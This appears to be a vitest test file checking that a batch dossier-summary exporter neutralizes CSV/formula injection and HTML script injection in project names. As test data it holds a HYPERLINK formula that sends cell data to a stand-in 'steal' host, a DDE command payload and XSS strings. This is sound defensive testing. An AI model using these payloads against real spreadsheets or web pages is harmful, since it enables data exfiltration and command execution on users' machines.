import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { summaryCsv, summaryHtml, summaryXlsx, type BatchRow } from '../../pipeline/batch.ts';

const HOSTILE_NAME = '=HYPERLINK("http://example.invalid/steal?"&A1,"点击查看")';

function row(overrides: Partial<BatchRow>): BatchRow {
  return {
    dossier: '青禾市甲项目.zip',
    projectName: '青禾市生态环境监测监控平台二期建设项目',
    constructionUnit: '青禾市生态环境局',
    totalInvestmentWan: 150,
    complete: false,
    verdict: '需补正（1 项必须补正）',
    missing: ['MT-F03 项目需求分析报告'],
    needsConfirmation: [],
    errors: 1,
    warnings: 0,
    reportDir: 'batch-report/青禾市甲项目.zip',
    ...overrides,
  };
}

const rows = [
  row({ projectName: HOSTILE_NAME, constructionUnit: '+cmd|" /C calc"!A0', dossier: '@SUM(1+1).zip' }),
  row({ projectName: '-2+3', constructionUnit: '\t=1+1', missing: ['\r=1+1'], totalInvestmentWan: -5 }),
  row({ projectName: '普通项目 = 1', constructionUnit: 'a-b@c' }),
];

/** The CSV's data rows as arrays of fields (every field is quoted, "" escapes a quote). */
function csvFields(csv: string): string[][] {
  return csv
    .replace(/^\uFEFF/, '')
    .trimEnd()
    .split('\r\n')
    .slice(1)
    .map((line) => [...line.matchAll(/"((?:[^"]|"")*)"/g)].map((m) => m[1]!.replace(/""/g, '"')));
}

describe('when a dossier’s project name or unit is written like a spreadsheet formula', () => {
  it('the CSV prefixes every text cell starting with = + - @ tab or CR with a quote, so Excel and WPS show it as text', () => {
    const csv = summaryCsv(rows);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const [first, second, third] = csvFields(csv);
    expect(first![1]).toBe("'@SUM(1+1).zip");
    expect(first![2]).toBe(`'${HOSTILE_NAME}`);
    expect(first![3]).toBe(`'+cmd|" /C calc"!A0`);
    expect(second![2]).toBe("'-2+3");
    expect(second![3]).toBe("'\t=1+1");
    expect(second![6]).toBe("'\r=1+1");
    // Numbers are not formulas: a negative amount stays a number.
    expect(second![4]).toBe('-5');
    // Only the first character matters.
    expect(third![2]).toBe('普通项目 = 1');
    expect(third![3]).toBe('a-b@c');
    const plainNumber = /^-?\d+(\.\d+)?$/;
    for (const fields of [first!, second!, third!]) {
      for (const field of fields.filter((f) => !plainNumber.test(f))) expect(field).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('the XLSX holds the name as a text cell, never as a formula', async () => {
    const written = await (await summaryXlsx(rows)).xlsx.writeBuffer();
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(written as ArrayBuffer);
    const sheet = workbook.getWorksheet('预审汇总')!;
    const name = sheet.getRow(2).getCell(3);
    expect(name.type).toBe(ExcelJS.ValueType.String);
    expect(name.value).toBe(HOSTILE_NAME);
    for (let r = 2; r <= 4; r += 1) {
      sheet.getRow(r).eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
    }
    expect(sheet.getRow(3).getCell(5).value).toBe(-5);
  });

  it('the HTML summary shows the names as text', () => {
    const html = summaryHtml([row({ projectName: '<script>alert(1)</script>', dossier: '<img src=x onerror=alert(1)>.zip' })]);
    expect(html).not.toMatch(/<script|<img/);
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('共 1 份，齐全 0 份');
  });
});
